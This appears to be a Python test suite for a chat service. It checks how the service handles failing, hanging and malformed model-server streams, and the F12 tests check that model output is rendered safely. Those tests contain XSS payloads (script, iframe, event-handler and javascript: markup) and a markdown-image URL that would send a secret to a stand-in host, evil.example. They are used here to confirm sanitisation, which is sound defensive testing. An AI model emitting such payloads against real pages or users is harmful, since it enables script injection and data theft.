"""F8 to F12: model servers that fail, hang, stall and talk nonsense, on real sockets, and what the fan gets."""

from __future__ import annotations

from contextlib import ExitStack
from hashlib import sha256

import pytest
from django.urls import reverse

from billing.models import Entry
from chat import asking, lines, services
from chat.tests.factories import answer, say, talk
from chat.turn import Refused
from chat.usage import Usage
from companion_site.core.ports import free_port
from companion_site.providers.embedded.chat import PATIENCE as EMBEDDED
from companion_site.providers.openai_compatible import Patience
from companion_site.providers.tests import scripted
from companion_site.providers.tests.scripted import DONE, cut_stream, event, stop, stream, token

WELL = stream(
    token("The third "),
    token("shelf."),
    stop(),
    event({"choices": [], "usage": {"prompt_tokens": 90, "completion_tokens": 4}}),
    DONE,
)
CALM = {"first_token": 20.0, "idle": 20.0, "tail": 0.1}
_warmed: list[bool] = []
# The promise of trust.md.
FRIENDLY_SECONDS = 2.0


@pytest.fixture(autouse=True)
def _own_folder(settings, tmp_path):
    settings.VAR_DIR = tmp_path
    asking._missing.clear()


@pytest.fixture(autouse=True)
def _warm(fan, mira):
    """Let the first reply of the process load its lexicons, so that no failure is blamed for it."""
    if not _warmed:
        talk(services.start_conversation(fan, mira), "Hello.", "client-warm")
        _warmed.append(True)


@pytest.fixture
def serve(settings):
    """Put misbehaving servers behind the aliases: `serve(default=[script, …], fallback=[…])`; None is nobody there."""
    with ExitStack() as stack:

        def begin(patience=None, **aliases):
            found, rows = {}, {}
            for alias, scripts in aliases.items():
                url = f"http://127.0.0.1:{free_port('127.0.0.1', 18600)}/v1"
                if scripts is not None:
                    found[alias] = stack.enter_context(scripted.serving(*scripts))
                    url = found[alias].url
                rows[alias] = {"OPTIONS": {"model": "m", "base_url": url, "patience": {**CALM, **(patience or {})}}}
            settings.CHAT_MODELS = rows
            return found

        yield begin


def reply_to(conversation, text="Where is the lamp oil?", client_id="client-0001"):
    """Return the stored reply, its turn, its events and how many seconds its stage waited for words."""
    sent = say(conversation, text, client_id)
    turn, events = answer(sent, conversation)
    sent.reply.refresh_from_db()
    return sent.reply, turn, events, turn.timings["reply"] / 1000


def assert_friendly(conversation, reply, turn, events):
    """The character's own line, an honest note, another try on offer, and nothing taken."""
    assert reply.text == lines.outage(turn.cast.sheet)
    assert (reply.status, reply.error) == ("failed", "model_unavailable")
    assert isinstance(events[-1], Refused)
    assert "Nothing was charged" in str(events[-1].problem)
    assert (turn.usage, Entry.objects.count()) == (Usage(), 0)


def refusing(status: str):
    return scripted.answer({"error": {"message": "no"}}, status)


@pytest.mark.parametrize(
    ("status", "kind", "requests"),
    [
        ("401 Unauthorized", "auth", 1),
        ("429 Too Many Requests", "limit", 2),
        ("500 Internal Server Error", "server", 2),
        ("503 Service Unavailable", "server", 2),
        ("400 Bad Request", "refused", 1),
        ("404 Not Found", "missing", 1),
    ],
)
def test_f8_a_server_that_refuses_leaves_a_friendly_line_at_once(serve, conversation, status, kind, requests):
    servers = serve(default=[refusing(status)])

    reply, turn, events, seconds = reply_to(conversation)

    assert_friendly(conversation, reply, turn, events)
    assert turn.trace["model_error"] == kind
    assert len(servers["default"].requests) == requests
    assert seconds <= FRIENDLY_SECONDS


def test_f8_nobody_there_leaves_a_friendly_line_at_once(serve, conversation):
    serve(default=None)

    reply, turn, events, seconds = reply_to(conversation)

    assert_friendly(conversation, reply, turn, events)
    assert turn.trace["model_error"] == "connect"
    assert seconds <= FRIENDLY_SECONDS


def test_f8_a_server_that_comes_back_is_asked_once_more_before_the_first_word(serve, conversation):
    servers = serve(default=[refusing("503 Service Unavailable"), WELL])

    reply, turn, _, _ = reply_to(conversation)

    assert (reply.text, reply.status) == ("The third shelf.", "complete")
    assert [row["outcome"] for row in reply.trace["models"]] == ["server", "answered"]
    assert len(servers["default"].requests) == 2
    assert turn.usage == Usage(90, 4, 0)


def test_f8_the_fallback_answers_in_place_of_a_dead_server(serve, conversation, settings):
    servers = serve(default=None, fallback=[WELL])
    settings.CHAT_PRICES = {"fallback": {"prompt": 1000, "completion": 2000}}

    reply, turn, _, seconds = reply_to(conversation)

    assert (reply.text, reply.status) == ("The third shelf.", "complete")
    assert [(row["alias"], row["outcome"]) for row in reply.trace["models"]] == [
        ("default", "connect"),
        ("fallback", "answered"),
    ]
    assert len(servers["fallback"].requests) == 1
    assert turn.usage == Usage(90, 4, 98)
    assert seconds <= FRIENDLY_SECONDS


def test_f8_five_failures_open_the_breaker_and_nobody_is_asked_any_more(serve, conversation):
    servers = serve(default=[refusing("500 Internal Server Error")])
    for number in range(3):
        reply_to(conversation, client_id=f"client-{number:04}")

    reply, turn, events, seconds = reply_to(conversation, client_id="client-0009")

    assert_friendly(conversation, reply, turn, events)
    assert turn.trace["model_error"] == "resting"
    assert len(servers["default"].requests) == 5
    assert seconds <= FRIENDLY_SECONDS


def test_f9_a_server_that_hangs_before_its_first_word_is_given_up(serve, conversation):
    servers = serve(default=[stream(30.0)], patience={"first_token": 0.4})

    reply, turn, events, seconds = reply_to(conversation)

    assert_friendly(conversation, reply, turn, events)
    assert turn.trace["model_error"] == "timeout"
    assert len(servers["default"].requests) == 1  # who waited that long is not made to wait as long again
    assert 0.4 <= seconds <= 0.4 + FRIENDLY_SECONDS


def test_f9_a_server_that_only_sends_heartbeats_has_not_begun(serve, conversation):
    serve(default=[stream(*[b": ping\n\n", 0.1] * 300)], patience={"first_token": 0.4})

    reply, turn, events, seconds = reply_to(conversation)

    assert_friendly(conversation, reply, turn, events)
    assert seconds <= 0.4 + FRIENDLY_SECONDS


def test_f9_the_fallback_answers_in_place_of_a_hanging_server(serve, conversation):
    serve(default=[stream(30.0)], fallback=[WELL], patience={"first_token": 0.4})

    reply, _, _, seconds = reply_to(conversation)

    assert (reply.text, reply.status) == ("The third shelf.", "complete")
    assert seconds <= 0.4 + FRIENDLY_SECONDS


def test_f9_f10_the_times_of_the_promise_are_the_times_that_hold():
    assert (Patience().first_token, Patience().idle) == (20.0, 15.0)
    # The model in the house reads slowly and four fans may ask at once.
    assert (EMBEDDED.first_token, EMBEDDED.idle) == (90.0, 15.0)


@pytest.mark.parametrize(
    ("_case", "script", "kind"),
    [
        ("falls silent", stream(token("The lamp went out, and then she"), 30.0), "stalled"),
        (
            "heartbeats are no words",
            stream(token("The lamp went out, and then she"), *[b": ping\n\n", 0.1] * 300),
            "stalled",
        ),
        ("the line breaks", cut_stream(token("The lamp went out, and then she")), "broken"),
        (
            "an error event",
            stream(token("The lamp went out, and then she"), event({"error": {"message": "oom"}})),
            "server",
        ),
    ],
)
def test_f10_a_stall_in_mid_reply_keeps_the_words_and_offers_the_rest(
    serve, conversation, fan_client, settings, _case, script, kind
):
    going_on = stream(token(" lit another."), stop(), DONE)
    servers = serve(default=[script, going_on], fallback=[WELL], patience={"idle": 0.4})
    settings.CHAT_PRICES = {"default": {"completion": 1000}}

    reply, turn, events, seconds = reply_to(conversation)
    page = fan_client.get(reverse("chat:conversation", args=[conversation.public_id])).content.decode()
    go_on = reverse("chat:reply-continue", args=[reply.public_id])

    assert (reply.text, reply.status, reply.error) == (
        "The lamp went out, and then she",
        "interrupted",
        "reply_cut_off",
    )
    assert turn.trace["model_error"] == kind
    assert events[-1].problem["code"] == "reply_cut_off"
    assert go_on in page
    # What was delivered is counted, though the server never said how much it was; nobody else was asked.
    [row] = turn.tally.tries
    assert (row["outcome"], row["estimated"], row["completion"]) == (kind, True, 8)
    assert turn.usage.cost_micros == 8
    assert servers["fallback"].requests == []
    assert seconds <= 0.4 + FRIENDLY_SECONDS

    fan_client.post(go_on)

    reply.refresh_from_db()
    assert (reply.text, reply.status) == ("The lamp went out, and then she lit another.", "complete")


def word(number: int) -> str:
    return "".join(chr(97 + byte % 26) for byte in sha256(b"%d" % number).digest()[:6])


FLOOD = [token(f"{word(number)} ") for number in range(5000)]


@pytest.mark.parametrize(
    ("_case", "script", "text", "status"),
    [
        ("no [DONE]", stream(token("The third shelf."), stop()), "The third shelf.", "complete"),
        ("no finish reason", stream(token("The third shelf."), DONE), "The third shelf.", "complete"),
        (
            "broken JSON in between",
            stream(token("The third "), b"data: {oops\n\n", token("shelf."), stop(), DONE),
            "The third shelf.",
            "complete",
        ),
        (
            "a character split between packets",
            stream(*[bytes([byte]) for byte in token("雪大，进来吧。")], stop(), DONE),  # noqa: RUF001
            "雪大，进来吧。",
            "complete",
        ),  # noqa: RUF001
        (
            "half a character, escaped",
            stream(b'data: {"choices":[{"delta":{"content":"Sit. \\ud83d"}}]}\n\n', stop()),
            "Sit.",
            "complete",
        ),
        ("NUL", stream(b'data: {"choices":[{"delta":{"content":"Sit\\u0000."}}]}\n\n', stop()), "Sit.", "complete"),
        (
            "an event of 1 MiB after some words",
            stream(token("Sit here, and then "), token("x" * 1024 * 1024)),
            "Sit here, and then",
            "interrupted",
        ),
        (
            "endless repetition",
            stream(token("Well. "), *[token("The lamp is lit. ")] * 500),
            "Well. The lamp is lit.",
            "complete",
        ),
        ("more than 16 KiB", stream(*FLOOD), None, "complete"),
    ],
)
def test_f11_odd_streams_still_become_a_reply(serve, conversation, _case, script, text, status):
    serve(default=[script])

    reply, turn, _, _ = reply_to(conversation)

    assert reply.status == status
    assert len(reply.text.encode()) <= 16 * 1024
    if text is not None:
        assert reply.text.rstrip() == text
    else:
        assert len(reply.text.encode()) > 15 * 1024
        assert turn.finish_reason == "length"


@pytest.mark.parametrize(
    ("_case", "script", "requests"),
    [
        ("no token at all", stream(stop(), DONE), 2),
        ("nothing but white space", stream(token(" "), token("\n"), stop(), DONE), 2),
        ("an empty body", stream(), 2),
        ("a web page", stream(b"<html>\n\n<body>hello</body></html>"), 2),
        ("nothing but broken JSON", stream(*[b"data: {oops\n\n"] * 20), 2),
        ("an event of 1 MiB first", stream(token("x" * 1024 * 1024), stop()), 2),
        ("an event of 33 KiB first", stream(token("x" * 33 * 1024), stop()), 2),
    ],
)
def test_f11_a_reply_without_words_is_drawn_again_and_costs_nothing(serve, conversation, _case, script, requests):
    servers = serve(default=[script])

    reply, turn, events, _ = reply_to(conversation)

    assert_friendly(conversation, reply, turn, events)
    assert len(servers["default"].requests) == requests


def test_f11_a_stream_that_is_no_http_is_a_model_error(serve, conversation):
    serve(default=[[b"220 mail.example ESMTP\r\n\r\n"]])

    reply, turn, events, _ = reply_to(conversation)

    assert_friendly(conversation, reply, turn, events)


MARKUP = (
    "Look: <script>alert(2)</script> [click](javascript:alert(3)) <iframe src=//evil></iframe>"
    ' <b onmouseover="alert(4)">bold</b> ![x](//evil/p.png) <svg/onload=alert(5)>'
)


def test_f12_markup_of_a_model_is_shown_as_words_and_fetches_nothing(serve, conversation, fan_client):
    serve(default=[stream(token(MARKUP), stop(), DONE)])
    reply, _, _, _ = reply_to(conversation)

    response = fan_client.get(reverse("chat:conversation", args=[conversation.public_id]))

    page = response.content.decode()
    assert reply.status == "complete"
    assert "&lt;script&gt;alert(2)" in page
    for tag in ("<script>alert", "<iframe", 'href="javascript:', 'src="//evil', "<b onmouseover", "<svg/onload"):
        assert tag not in page
    assert "img-src 'self' data:" in response.headers["Content-Security-Policy"].split("; ")


@pytest.mark.parametrize(
    "picture", ["![x](https://evil.example/?q=secret)", '<img src="https://evil.example/p.png" onerror="alert(1)">']
)
def test_f12_a_picture_on_a_foreign_host_is_never_shown(serve, conversation, fan_client, picture):
    serve(default=[stream(token("Look: "), token(picture), stop(), DONE)])
    reply, _, events, _ = reply_to(conversation)

    page = fan_client.get(reverse("chat:conversation", args=[conversation.public_id])).content.decode()

    assert (reply.status, reply.error) == ("blocked", "reply_blocked")
    for shown in (page, reply.text, repr(events)):
        assert "evil.example" not in shown
